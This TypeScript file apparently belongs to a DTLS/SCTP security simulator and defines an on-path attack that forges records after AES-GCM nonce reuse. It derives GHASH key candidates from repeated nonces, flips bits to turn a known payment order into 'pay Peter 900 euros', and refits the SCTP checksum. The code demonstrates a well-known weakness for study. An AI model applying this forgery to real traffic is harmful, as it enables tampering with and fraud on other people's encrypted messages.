import { type Association, readAssociation, type Side } from "../dtls/handshake/association.ts";
import { suiteOf } from "../dtls/handshake/version.ts";
import { nonceReuse } from "../dtls/judge/nonceReuse.ts";
import { hashKeyCandidates, withDifference } from "../dtls/judge/recoverHashKey.ts";
import { scanRecords } from "../dtls/wire/record.ts";
import { COMMON_HEADER_LENGTH, DATA_HEADER_LENGTH } from "../sctp/chunk.ts";
import { crc32c } from "../sctp/crc32c.ts";
import type { PeerName } from "../trace/parties.ts";
import type { InjectingAttack, SeenDatagram } from "./attack.ts";

/** How the app writes an order; the attacker has the same app. What stands between varies, and not in length. */
export const ORDER = { begins: "Please pay Carol 100 euros. Reference: ", ends: ".", bytes: 85 } as const;
const INSTEAD = "Please pay Peter 900 euros. Reference: ";

/** A message alone in its SCTP packet, as stacks send a short one. */
const TEXT_AT = COMMON_HEADER_LENGTH + DATA_HEADER_LENGTH;
/** The explicit nonce and the tag (RFC 5288 §3). */
const OVERHEAD = 24;

export const forgeRecord: InjectingAttack = {
  id: "forge-record",
  title: "Forging a record after a repeated nonce",
  position: "path",
  legs: "none",
  sends: "forged",
  explain: () =>
    "The attacker owns the network between the peers. When two records of one peer share a nonce, it works out from both tags the few values that the key of GHASH can have: " +
    "the roots of a polynomial over GF(2^128). With it, it can make the tag of any record whose ciphertext it changes. It knows how the app writes an order and recognises one by its length, so it knows which bits to turn to name another payee; SCTP’s checksum is linear, and turned to fit. For each possible key it sends one forgery, just ahead of the genuine record.",
  limits:
    "It needs a nonce that came twice and a message whose text it can guess. It reads nothing: what stands in the record besides the guessed text stays as it is, unseen.",
  references: ["RFC 9325 §7.2.1", "RFC 5288 §3", "RFC 5116 §5.1.1"],
  ahead(seen, passing) {
    const [record, ...more] = scanRecords(passing.bytes).records;
    if (!record || more.length > 0 || record.contentType !== "application_data") return [];
    if (record.fragment.length !== OVERHEAD + padded(TEXT_AT + ORDER.bytes)) return [];
    const difference = differenceIn(record.fragment.length - OVERHEAD);
    return hashKeys(associationIn(seen), sideOf(passing.from)).flatMap(
      (hashKey) => withDifference(record, difference, hashKey) ?? [],
    );
  },
};

function hashKeys(association: Association, from: Side): bigint[] {
  if (suiteOf(association)?.aead === "chacha20-poly1305") return [];
  const [pair] = nonceReuse(association).reused.filter(({ first }) => first.from === from);
  return pair ? hashKeyCandidates(pair) : [];
}

function associationIn(seen: readonly SeenDatagram[]): Association {
  return readAssociation(
    seen.map(({ from, bytes }, index) => ({ packet: index + 1, from: sideOf(from), bytes })),
  );
}

function sideOf(peer: PeerName): Side {
  return peer === "alice" ? "a" : "b";
}

/** Of the whole SCTP packet: the text, and the checksum, whose change depends on that of the rest alone. */
function differenceIn(length: number): Uint8Array {
  const difference = Buffer.alloc(length);
  const [before, after] = [Buffer.from(ORDER.begins), Buffer.from(INSTEAD)];
  for (const [index, byte] of before.entries()) difference[TEXT_AT + index] = byte ^ (after[index] ?? 0);
  // The CRC of a XOR is the XOR of the CRCs, but for that of nothing but zeros.
  const checksum = (crc32c(difference) ^ crc32c(new Uint8Array(length))) >>> 0;
  difference.writeUInt32LE(checksum, 8);
  return difference;
}

/** Chunks are filled up to four bytes (RFC 9260 §3.2). */
function padded(length: number): number {
  return Math.ceil(length / 4) * 4;
}
